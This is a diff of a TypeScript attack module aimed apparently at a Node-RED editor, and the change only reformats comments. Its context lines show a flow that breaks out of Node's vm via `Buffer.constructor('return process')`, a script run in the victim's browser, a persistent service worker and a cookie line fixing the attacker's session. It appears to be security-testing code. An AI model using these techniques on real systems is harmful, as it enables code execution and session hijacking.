@@ -1,4 +1,6 @@
-/** What an attacker does who may edit flows: a flow that serves its own script to whoever opens the editor. */
+/**
+ * What an attacker does who may edit flows: a flow that serves its own script to whoever opens the editor.
+ */
 
 /** Answers the page's every navigation in its place, from then on and after every restart of the browser. */
 const workerScript = `
@@ -16,7 +18,9 @@ export interface AttackOptions {
   readonly ownSession: string;
 }
 
-/** Runs in the victim's browser, on the editor's page. Leaves what came of each attempt in `window.report`. */
+/**
+ * Runs in the victim's browser, on the editor's page. Leaves what came of each attempt in `window.report`.
+ */
 export function attackScript({ target, ownSession }: AttackOptions): string {
   return `
 window.report = {};
@@ -104,7 +108,10 @@ document.cookie = 'gatehouse_session=${ownSession}; path=/';
 document.cookie;`;
 }
 
-/** A flow that breaks out of Node's vm and answers the editor's own script, and one for a service worker, in Node-RED's place. */
+/**
+ * A flow that breaks out of Node's vm and answers the editor's own script, and one for a service worker, in
+ * Node-RED's place.
+ */
 export function hostileFlow(script: string) {
   const code = `
 const host = Buffer.constructor('return process')();
